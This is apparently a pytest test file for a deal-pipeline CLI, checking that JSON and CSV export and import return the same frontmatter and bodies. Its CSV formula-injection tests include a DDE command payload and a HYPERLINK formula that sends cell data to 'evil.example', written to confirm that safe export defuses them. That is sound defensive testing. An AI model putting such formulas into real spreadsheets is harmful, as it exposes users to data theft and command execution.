"""Export then import gives back the same deals, exactly, or export refuses the deal (issue 13):
text that reads like a date, keys set to null, bodies of any size a deal holds, number keys,
numbers of `;`-separated files; and a property: any deals JSON can hold (and any CSV can hold)
come back with the same frontmatter values, types and order, and the same body."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Cli, make_repo
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pipectl.transfer.mapping import infer

STAGES = ("prospecting", "qualifying")


def new_pipeline(path: Path) -> tuple[Path, Cli]:
    root = make_repo(path)
    cli = Cli(root)
    assert cli("init").exit_code == 0
    return root, cli


def read_deals(root: Path) -> dict[str, tuple[str, Any, str]]:
    """Every deal: (stage, frontmatter as YAML reads it, body), by id."""
    out = {}
    for stage in STAGES:
        for path in sorted((root / stage).glob("*.md")):
            _, front, body = path.read_text(encoding="utf-8").split("---\n", 2)
            out[path.stem] = (stage, yaml.safe_load(front), body)
    return out


def typed(value: Any) -> Any:
    """The value with its types written out: 1, 1.0 and True differ; key order counts."""
    if isinstance(value, dict):
        return ("dict", [(typed(k), typed(v)) for k, v in value.items()])
    if isinstance(value, list):
        return ("list", [typed(v) for v in value])
    return (type(value).__name__, value)


def same_deals(a: dict[str, Any], b: dict[str, Any]) -> bool:
    return {k: typed(v) for k, v in a.items()} == {k: typed(v) for k, v in b.items()}


def put(root: Path, stage: str, deal_id: str, text: str) -> None:
    (root / stage / f"{deal_id}.md").write_text(text, encoding="utf-8")


def round_trip(src: Cli, dst: Cli, tmp: Path, fmt: str) -> Any:
    out = tmp / f"deals.{fmt}"
    exported = src("export", "--format", fmt, "-o", str(out))
    assert exported.exit_code == 0, exported.output
    return dst("import", str(out))


# --- the cases the issue names, through the CLI ----------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_text_that_reads_like_a_date_stays_text(tmp_path: Path, fmt: str) -> None:
    src_root, src = new_pipeline(tmp_path / "src")
    dst_root, dst = new_pipeline(tmp_path / "dst")
    put(
        src_root,
        "prospecting",
        "acme",
        "---\ntitle: Acme\nrenewal: '2026-01-01'\n"
        "signed: 2026-01-02\nlog: ['2026-01-03', 2026-01-04]\n---\n# Acme\n",
    )
    result = round_trip(src, dst, tmp_path, fmt)
    if fmt == "csv":  # CSV has no types: such a deal comes back changed (documented)
        assert result.exit_code == 0, result.output
        return
    assert result.exit_code == 0, result.output
    front = read_deals(dst_root)["acme"][1]
    assert front["renewal"] == "2026-01-01"  # text, as it was
    assert front["signed"] == dt.date(2026, 1, 2)
    assert front["log"] == ["2026-01-03", dt.date(2026, 1, 4)]
    assert same_deals(read_deals(dst_root), read_deals(src_root))


def test_a_key_set_to_null_comes_back_through_json(tmp_path: Path) -> None:
    src_root, src = new_pipeline(tmp_path / "src")
    dst_root, dst = new_pipeline(tmp_path / "dst")
    put(src_root, "prospecting", "acme", "---\ntitle: Acme\nregion:\nseats: 5\n---\n# Acme\n")
    result = round_trip(src, dst, tmp_path, "json")
    assert result.exit_code == 0, result.output
    front = read_deals(dst_root)["acme"][1]
    assert list(front) == ["title", "region", "seats"] and front["region"] is None


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_body_of_a_megabyte_comes_back(tmp_path: Path, fmt: str) -> None:
    src_root, src = new_pipeline(tmp_path / "src")
    dst_root, dst = new_pipeline(tmp_path / "dst")
    body = "# Acme\n\n" + ('notes, "quoted", and more\n' * 40_000)  # ~1 MB, past csv's 128 KB
    put(src_root, "prospecting", "acme", "---\ntitle: Acme\ncreated: 2026-01-01\n---\n" + body)
    result = round_trip(src, dst, tmp_path, fmt)
    assert result.exit_code == 0, result.output
    assert read_deals(dst_root)["acme"][2] == body


@pytest.mark.parametrize("fmt", ["json", "csv"])
@pytest.mark.parametrize("key", ["1", "'1'", "2026-01-01", "true", "'two words'"])
def test_a_key_import_cannot_read_back_is_refused_by_export_with_its_line(
    tmp_path: Path, fmt: str, key: str
) -> None:
    root, cli = new_pipeline(tmp_path / "src")
    put(root, "prospecting", "acme", f"---\ntitle: Acme\n{key}: one\n---\n# Acme\n")
    put(root, "prospecting", "fine", "---\ntitle: Fine\n---\n# Fine\n")
    result = cli("export", "--format", fmt)
    if key == "'two words'" and fmt == "json":  # a plain YAML key: JSON import writes it
        assert result.exit_code == 0 and '"two words": "one"' in result.stdout
        return
    assert result.exit_code == 2, result.output
    assert "prospecting/acme.md:3: key " in result.stderr
    assert "left out" in result.stderr
    assert "fine" in result.stdout and "acme" not in result.stdout


def test_keys_1_and_quoted_1_never_collapse_into_one(tmp_path: Path) -> None:
    root, cli = new_pipeline(tmp_path / "src")
    put(root, "prospecting", "acme", "---\ntitle: Acme\n1: number\n'1': text\n---\n# Acme\n")
    for fmt in ("csv", "json"):
        result = cli("export", "--format", fmt)
        assert result.exit_code == 2 and "acme.md:3: key 1 is int" in result.stderr, result.output
        assert "number" not in result.stdout and "text" not in result.stdout


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_csv_column_name_export_writes_itself_is_refused(tmp_path: Path, fmt: str) -> None:
    root, cli = new_pipeline(tmp_path / "src")
    put(root, "prospecting", "acme", "---\ntitle: Acme\nbody: mine\nlast_touch: x\n---\n# A\n")
    result = cli("export", "--format", fmt)
    if fmt == "json":  # JSON keeps fields apart from the id, stage and body
        assert result.exit_code == 0, result.output
    else:
        assert result.exit_code == 2 and "acme.md:3: key 'body'" in result.stderr


def test_values_json_cannot_tell_apart_are_refused_by_export(tmp_path: Path) -> None:
    root, cli = new_pipeline(tmp_path / "src")
    put(root, "prospecting", "inf", "---\ntitle: Inf\nrate: .inf\n---\n")
    put(root, "prospecting", "stamp", "---\ntitle: Stamp\nat: 2026-01-01 10:00:00\n---\n")
    put(root, "prospecting", "nested", "---\ntitle: N\nby_year: {2026: 5}\n---\n")
    result = cli("export", "--format", "json")
    assert result.exit_code == 2, result.output
    assert "inf.md:3: rate cannot be exported as JSON" in result.stderr
    assert "stamp.md:3: at cannot be exported as JSON" in result.stderr
    assert "nested.md:3: by_year.2026 cannot be exported as JSON" in result.stderr


def test_small_and_large_floats_come_back_floats_through_csv(tmp_path: Path) -> None:
    src_root, src = new_pipeline(tmp_path / "src")
    dst_root, dst = new_pipeline(tmp_path / "dst")
    put(
        src_root,
        "prospecting",
        "acme",
        "---\ntitle: Acme\ncreated: 2026-01-01\n"
        "tiny: 1.5e-07\nhuge: 1.0e+20\nwhole: 3.0\n---\n# Acme\n",
    )
    result = round_trip(src, dst, tmp_path, "csv")
    assert result.exit_code == 0, result.output
    assert same_deals(read_deals(dst_root), read_deals(src_root))


@pytest.mark.parametrize("cell", ["1.200", "1,200", "-2.500"])
@pytest.mark.parametrize("column", ["value", "seats"])
def test_a_semicolon_csv_refuses_a_number_that_may_be_thousands(
    cli: Cli, pipeline: Path, cell: str, column: str
) -> None:
    src = pipeline.parent / "de.csv"
    src.write_text(f"title;{column}\nAcme;{cell}\nGlobex;1.5\n", encoding="utf-8")
    result = cli("import", str(src), "--dry-run")
    if cell == "1,200" and column == "seats":  # stays text, as any cell that is no number
        assert result.exit_code == 0, result.output
        return
    assert result.exit_code == 2, result.output
    assert "de.csv:2: " in result.stderr and "ambiguous in a file separated by ';'" in (
        result.stderr
    )
    assert "de.csv:3" not in result.stderr  # 1.5 is no thousands: read as 1.5
    same = pipeline.parent / "en.csv"  # the same cell in a comma file is 1.2, as always
    same.write_text(f"title,{column}\nAcme,{cell.replace(',', '.')}\n", encoding="utf-8")
    negative_value = cell.startswith("-") and column == "value"  # refused as negative there
    assert cli("import", str(same), "--dry-run").exit_code == (2 if negative_value else 0)


# --- the property -------------------------------------------------------------------------

KEYS = st.from_regex(r"x_[a-z][a-z0-9_]{0,6}", fullmatch=True)
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20)
DATE_TEXT = st.dates(dt.date(1900, 1, 1), dt.date(2999, 12, 31)).map(dt.date.isoformat)
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(dt.date(1900, 1, 1), dt.date(2999, 12, 31)),
    TEXT,
    DATE_TEXT,
)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=3),
    max_leaves=6,
)
BODIES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)


def deal_text(fields: dict[str, Any], body: str) -> str:
    front = yaml.safe_dump(fields, sort_keys=False, allow_unicode=True) if fields else ""
    return "---\n" + front + "---\n" + body


def deals(values: st.SearchStrategy[Any], bodies: st.SearchStrategy[str]) -> Any:
    one = st.tuples(st.sampled_from(STAGES), st.dictionaries(KEYS, values, max_size=4), bodies)
    return st.dictionaries(st.from_regex(r"d[a-z0-9]{0,5}", fullmatch=True), one, max_size=3)


@pytest.fixture(scope="module")
def two(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Cli, Path, Cli, Path]:
    tmp = tmp_path_factory.mktemp("rt")
    src_root, src = new_pipeline(tmp / "src")
    dst_root, dst = new_pipeline(tmp / "dst")
    return src_root, src, dst_root, dst, tmp


def run_property(two: Any, generated: dict[str, Any], fmt: str, extra: dict[str, Any]) -> None:
    src_root, src, dst_root, dst, tmp = two
    for root in (src_root, dst_root):
        for stage in STAGES:
            shutil.rmtree(root / stage, ignore_errors=True)
            (root / stage).mkdir()
    for deal_id, (stage, fields, body) in generated.items():
        put(src_root, stage, deal_id, deal_text({**extra, **fields}, body))
    before = read_deals(src_root)
    out = tmp / f"deals.{fmt}"
    exported = src("export", "--format", fmt, "-o", str(out))
    assert exported.exit_code == 0, exported.output
    imported = dst("import", str(out), "--no-commit")
    assert imported.exit_code == 0, imported.output
    after = read_deals(dst_root)
    assert same_deals(after, before), (before, after)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=deals(JSON_VALUES, BODIES))
def test_json_export_then_import_gives_the_same_deals(two: Any, generated: Any) -> None:
    run_property(two, generated, "json", {})


def _csv_holds_text(s: str) -> bool:
    """Text a CSV cell gives back as that text: inference keeps it, nothing to trim."""
    return bool(s) and infer(s) == s and "\r" not in s


CSV_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=20).filter(
    _csv_holds_text
)
CSV_SCALARS = st.one_of(
    st.booleans(),
    st.integers(0, 10**12),
    st.floats(min_value=0, allow_nan=False, allow_infinity=False),
    st.dates(dt.date(1900, 1, 1), dt.date(2999, 12, 31)),
    CSV_TEXT,
)
CSV_VALUES = CSV_SCALARS | st.lists(
    st.one_of(st.integers(0, 999), st.dates(), st.from_regex(r"[a-z]{1,8}", fullmatch=True)),
    min_size=1,
    max_size=3,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=deals(CSV_VALUES, BODIES))
@example(generated={"d": ("prospecting", {}, "\r")})  # a lone CR: the writer left it unquoted
def test_csv_export_then_import_gives_the_same_deals_on_what_csv_holds(
    two: Any, generated: Any
) -> None:
    # `created` as every pipectl deal has it: a CSV without the column dates new deals today
    run_property(two, generated, "csv", {"created": dt.date(2026, 1, 1)})


# --- formulas in CSV (issue 18): a safe export defuses them, import gives them back --------

FORMULA_TEXT = st.tuples(
    st.sampled_from(["=", "+", "-", "@", "\t", "'", "''", "'=", "'+", "'a", "'-", "'@"]),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=12),
).map("".join)
FORMULA_VALUES = st.one_of(FORMULA_TEXT.filter(_csv_holds_text), CSV_VALUES)


def _run_csv(two: Any, generated: dict[str, Any], out_name: str | None, *flags: str) -> str:
    """export (to a file, or stdout), import; the deals must come back exactly."""
    src_root, src, dst_root, dst, tmp = two
    for root in (src_root, dst_root):
        for stage in STAGES:
            shutil.rmtree(root / stage, ignore_errors=True)
            (root / stage).mkdir()
    for deal_id, (stage, fields, body) in generated.items():
        put(src_root, stage, deal_id, deal_text({"created": dt.date(2026, 1, 1), **fields}, body))
    before = read_deals(src_root)
    out = tmp / (out_name or "piped.txt")
    if out_name is None:
        exported = src("export", "--format", "csv", *flags)
        out.write_text(exported.stdout, encoding="utf-8")
    else:
        exported = src("export", "--format", "csv", "-o", str(out), *flags)
    assert exported.exit_code == 0, exported.output
    imported = dst("import", str(out), "--no-commit")
    assert imported.exit_code == 0, imported.output
    assert same_deals(read_deals(dst_root), before)
    return out.read_text("utf-8")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=deals(FORMULA_VALUES, BODIES | FORMULA_TEXT))
@example(generated={"d": ("prospecting", {"x_a": "'=1+1"}, "'")})
@example(generated={"d": ("prospecting", {"x_a": "''"}, "=cmd|' /C calc'!A0")})
def test_formula_cells_come_back_exactly_safe_or_not(two: Any, generated: Any) -> None:
    import csv
    import io

    written = _run_csv(two, generated, "deals.csv")  # a .csv file: safe by default
    rows = list(csv.reader(io.StringIO(written)))
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    _run_csv(two, generated, None)  # stdout: as it is, and still exact
    _run_csv(two, generated, "deals.txt", "--safe-csv")


def test_a_csv_file_is_safe_by_default_and_the_prefix_is_documented(tmp_path: Path) -> None:
    root, cli = new_pipeline(tmp_path / "p")
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    put(root, "prospecting", "acme", deal_text({"created": dt.date(2026, 1, 1), "x_a": evil}, ""))
    out = tmp_path / "deals.CSV"
    assert cli("export", "-o", str(out)).exit_code == 0
    assert "'=HYPERLINK(" in out.read_text("utf-8")
    assert cli("export", "-o", str(out), "--no-safe-csv").exit_code == 0
    assert "'=HYPERLINK(" not in out.read_text("utf-8") and "=HYPERLINK(" in out.read_text("utf-8")
    raw = cli("export")
    assert "'=" not in raw.stdout
    # a CSV from elsewhere: --no-safe-csv keeps a leading ' that is the data's own
    other = tmp_path / "other.csv"
    other.write_text("id,stage,created,x_a\nb,prospecting,2026-01-01,'=1\n", encoding="utf-8")
    assert cli("import", str(other), "--no-safe-csv", "--no-commit").exit_code == 0
    assert "'=1" in (root / "prospecting" / "b.md").read_text("utf-8")
    doc = (Path(__file__).resolve().parents[2] / "docs" / "import.md").read_text("utf-8")
    assert "--safe-csv" in doc and "--no-safe-csv" in doc


# --- several contacts per deal (issue 16): `contacts.N.PART` columns in CSV ---------------------

CONTACT_TEXT = CSV_TEXT.filter(lambda s: s == s.strip() and "\n" not in s)
CONTACT = st.fixed_dictionaries(
    {},
    optional={
        "name": CONTACT_TEXT,
        "email": st.from_regex(r"[a-z0-9.]{1,8}@[a-z]{1,8}\.[a-z]{2,4}", fullmatch=True),
        "phone": st.from_regex(r"\+?[0-9][0-9 ]{3,12}[0-9]", fullmatch=True),
        "role": st.from_regex(r"[a-z][a-z ]{0,10}[a-z]", fullmatch=True),
    },
).filter(lambda c: "name" in c or "email" in c)
# the parts in the order export writes them (a shuffled entry is refused by CSV export)
ORDERED_CONTACT = CONTACT.map(
    lambda c: {k: c[k] for k in ("name", "email", "phone", "role") if k in c}
)
CONTACT_DEALS = st.dictionaries(
    st.from_regex(r"d[a-z0-9]{0,5}", fullmatch=True),
    st.tuples(
        st.sampled_from(STAGES),
        st.lists(ORDERED_CONTACT, min_size=1, max_size=3),
        st.dictionaries(KEYS, CSV_VALUES, max_size=2),
        BODIES,
    ),
    max_size=3,
)


def with_contacts(generated: dict[str, Any]) -> dict[str, Any]:
    """Each deal's fields in pipectl's order: contacts, created, then the user's keys."""
    return {
        deal_id: (stage, {"contacts": people, "created": dt.date(2026, 1, 1), **rest}, body)
        for deal_id, (stage, people, rest, body) in generated.items()
    }


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=CONTACT_DEALS)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_contacts_come_back_the_same_through_csv_columns_and_json(
    two: Any, generated: Any, fmt: str
) -> None:
    run_property(two, with_contacts(generated), fmt, {})


def test_contacts_are_columns_and_a_shuffled_entry_is_refused_by_csv_export(
    tmp_path: Path,
) -> None:
    src_root, src = new_pipeline(tmp_path / "src")
    people = [{"name": "Jane Doe", "email": "jane@acme.example"}, {"name": "Raj", "role": "cfo"}]
    put(src_root, "prospecting", "acme", deal_text({"title": "Acme", "contacts": people}, ""))
    exported = src("export", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    header = exported.stdout.splitlines()[0].split(",")
    assert [c for c in header if c.startswith("contacts")] == [
        "contacts.1.name",
        "contacts.1.email",
        "contacts.2.name",
        "contacts.2.role",
    ]
    shuffled = [{"email": "jane@acme.example", "name": "Jane Doe"}]
    put(src_root, "prospecting", "acme", deal_text({"title": "Acme", "contacts": shuffled}, ""))
    refused = src("export", "--format", "csv")
    assert refused.exit_code == 2
    assert "acme.md:3: contact 1 cannot be CSV columns" in refused.output
    assert src("export", "--format", "json").exit_code == 0  # JSON keeps any order
